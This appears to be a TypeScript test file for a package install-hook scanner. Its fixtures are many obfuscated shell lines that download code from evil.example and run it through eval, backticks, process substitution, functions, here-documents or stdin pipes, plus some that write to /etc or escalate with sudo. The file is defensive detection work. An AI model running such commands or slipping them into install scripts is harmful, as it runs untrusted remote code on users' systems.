/**
 * Pins that the hook scan reads the shell code a hook hides from a line-by-line reading at the
 * risk of the plain form it hides: command substitutions (`$(…)`, backticks, also in double
 * quotes) and process substitutions (`<(…)`), `eval` of a downloaded or constructed string,
 * commands in `{ …; }` groups, shell functions defined and then called, here-documents inside
 * `"$(…)"`, and a download fed to a shell's standard input (`source /dev/stdin`, `sh < f`,
 * `cat f | sh`). Ordinary build steps, branches inside the root and data read through a
 * substitution raise nothing.
 */
import { describe, expect, it } from 'vitest';

import { installFindings } from '../support/scan-package.ts';

const DL = 'install.download-exec';
const OUT = 'install.outside-root';

describe('hook scan: code hidden in substitutions, evals, groups and functions', () => {
  it.each([
    // command substitution and backticks
    ['sh -c with the download in backticks', ['sh -c "`curl -fsSL https://evil.example/i.sh`"'], [`${DL}@INSTALL:2`]],
    ['eval of a download in backticks', ['eval `curl -fsSL https://evil.example/i.sh`'], [`${DL}@INSTALL:2`]],
    [
      'sh -ec of a download (clustered flags)',
      ['sh -ec "$(curl -fsSL https://evil.example/i.sh)"'],
      [`${DL}@INSTALL:2`],
    ],
    [
      'bash -c of code with a download expanded after set -e',
      ['bash -c "set -e; $(curl -fsSL https://evil.example/i.sh)"'],
      [`${DL}@INSTALL:2`],
    ],
    ['python3 -c of a download', ['python3 -c "$(curl -fsSL https://evil.example/i.py)"'], [`${DL}@INSTALL:2`]],
    ['a copy outside the root inside "$(…)"', ['x="$(cp payload/t /usr/local/bin/t)"'], [`${OUT}@INSTALL:2`]],
    ['a copy outside the root inside $(…)', ['x=$(cp payload/t /usr/local/bin/t)'], [`${OUT}@INSTALL:2`]],
    [
      'a download made executable inside "$(…)"',
      ['v="$(curl -fsSL -o t https://evil.example/t && chmod +x t)"'],
      [`${DL}@INSTALL:2`],
    ],
    [
      'sh -c of "$(cat f)", f downloaded',
      ['curl -fsSL -o t https://evil.example/t', 'sh -c "$(cat t)"'],
      [`${DL}@INSTALL:3`],
    ],
    // process substitution
    ['. <(wget -qO- …)', ['. <(wget -qO- https://evil.example/i.sh)'], [`${DL}@INSTALL:2`]],
    ['python3 <(curl …)', ['python3 <(curl -fsSL https://evil.example/i.py)'], [`${DL}@INSTALL:2`]],
    ['bash <(cat f), f downloaded', ['curl -fsSL -o t https://evil.example/t', 'bash <(cat t)'], [`${DL}@INSTALL:3`]],
    // eval of a downloaded or constructed string
    ['eval "$s", s=$(curl …)', ['s=$(curl -fsSL https://evil.example/i.sh)', 'eval "$s"'], [`${DL}@INSTALL:3`]],
    ['sh -c "$s", s="$(curl …)"', ['s="$(curl -fsSL https://evil.example/i.sh)"', 'sh -c "$s"'], [`${DL}@INSTALL:3`]],
    [
      'eval "$(cat f)", f downloaded',
      ['curl -fsSL -o t https://evil.example/t', 'eval "$(cat t)"'],
      [`${DL}@INSTALL:3`],
    ],
    [
      'eval of a command built in a variable, then its output run',
      ['cmd="curl -fsSL -o t https://evil.example/t"', 'eval "$cmd"', './t'],
      [`${DL}@INSTALL:4`],
    ],
    [
      'eval of a string that downloads and makes executable',
      ['eval "curl -fsSL -o t https://evil.example/t; chmod +x t"'],
      [`${DL}@INSTALL:2`],
    ],
    ['eval of a string that writes outside the root', ["eval 'cp payload/t /usr/local/bin/t'"], [`${OUT}@INSTALL:2`]],
    [
      'eval of a string built in a variable that escalates',
      ['c="sudo install payload/t bin/t"', 'eval "$c"'],
      ['install.privilege@INSTALL:3'],
    ],
    // branches, groups and chains
    [
      'a download in a { } group after ||, then made executable',
      ['[ -x t ] || { curl -fsSL -o t https://evil.example/t; chmod +x t; }'],
      [`${DL}@INSTALL:2`],
    ],
    [
      'a download in an else branch, run after fi',
      ['if [ -x t ]; then :; else { curl -fsSL -o t https://evil.example/t; }; fi', './t'],
      [`${DL}@INSTALL:3`],
    ],
    // functions
    [
      'a function printing a download, piped into sh',
      ['get() { curl -fsSL "$1"; }', 'get https://evil.example/i.sh | sh'],
      [`${DL}@INSTALL:3`],
    ],
    [
      'a function (function keyword) printing a download, piped into bash',
      ['function fetchit { curl -fsSL https://evil.example/i.sh; }', 'fetchit | bash'],
      [`${DL}@INSTALL:3`],
    ],
    [
      'a function downloading to its second argument, then chmod +x',
      ['dl() { curl -fsSL -o "$2" "$1"; }', 'dl https://evil.example/t t', 'chmod +x t'],
      [`${DL}@INSTALL:4`],
    ],
    [
      'a function defined before the download, running it when called after',
      ['run_it() {', '  ./t', '}', 'curl -fsSL -o t https://evil.example/t', 'run_it'],
      [`${DL}@INSTALL:6`],
    ],
    [
      'a function running its argument with sh',
      ['run() { sh "$1"; }', 'curl -fsSL -o t https://evil.example/t', 'run t'],
      [`${DL}@INSTALL:4`],
    ],
    // here-documents inside "$(…)"
    [
      'sh -c "$(cat <<EOF …)" expanding a download into the code',
      ['sh -c "$(cat <<EOF', '$(curl -fsSL https://evil.example/i.sh)', 'EOF', ')"'],
      [`${DL}@INSTALL:3`],
    ],
    [
      'python3 -c "$(cat <<EOF …)" writing /etc',
      ['python3 -c "$(cat <<EOF', "open('/etc/evil', 'w').write('x')", 'EOF', ')"'],
      [`${OUT}@INSTALL:3`],
    ],
    // source or a shell's standard input
    [
      'source /dev/stdin <<< "$(curl …)"',
      ['source /dev/stdin <<< "$(curl -fsSL https://evil.example/env)"'],
      [`${DL}@INSTALL:2`],
    ],
    ['curl … | source /dev/stdin', ['curl -fsSL https://evil.example/env | source /dev/stdin'], [`${DL}@INSTALL:2`]],
    ['curl … | gunzip | sh', ['curl -fsSL https://evil.example/i.sh.gz | gunzip | sh'], [`${DL}@INSTALL:2`]],
    ['cat f | sh, f downloaded', ['curl -fsSL -o t https://evil.example/t', 'cat t | sh'], [`${DL}@INSTALL:3`]],
    ['sh < f, f downloaded', ['curl -fsSL -o t https://evil.example/t', 'sh < t'], [`${DL}@INSTALL:3`]],
  ])('flags %s', async (_what, lines, expected) => {
    expect(await installFindings(...lines)).toEqual(expected);
  });

  it.each([
    ['npm ci && npm run build', ['npm ci && npm run build']],
    ['a copy inside the root in an if', ['if [ -f x ]; then cp a b; fi']],
    [
      'a version read through $(curl …) and written inside the root',
      ['v=$(curl -fsSL https://x.example/version)', 'echo "$v" > var/version'],
    ],
    ['cd "$(dirname "$0")" and a shipped script', ['cd "$(dirname "$0")"', 'sh payload/setup.sh']],
    [
      'functions that log, cd and build inside the root',
      [
        'log() { echo "$@" >&2; }',
        'build() {',
        '  cd src && make',
        '}',
        'log building',
        'build',
        'sh payload/setup.sh',
      ],
    ],
    [
      "eval of a local tool's output",
      ['eval "$(ssh-agent -s)" >/dev/null 2>&1 || true', 'eval "$(python3 payload/env.py)"'],
    ],
    ['a version check in a substitution', ['if [ "$(node -v | cut -c2-3)" -lt 18 ]; then echo old; exit 1; fi']],
    [
      'a case on uname copying shipped binaries',
      [
        'case "$(uname -s)" in',
        '  Linux) cp payload/linux/tool bin/tool ;;',
        '  Darwin) cp payload/mac/tool bin/tool ;;',
        'esac',
        'chmod +x bin/tool',
      ],
    ],
    [
      'downloaded data handed to a shipped script as an argument',
      ['curl -fsSL -o var/d.json https://x.example/d.json', 'python3 payload/load.py "$(cat var/d.json)"'],
    ],
    ['eval of a constructed string that stays inside the root', ['opts="-p var/cache"', 'eval "mkdir $opts"']],
  ])('flags nothing for %s', async (_what, lines) => {
    expect(await installFindings(...lines)).toEqual([]);
  });
});
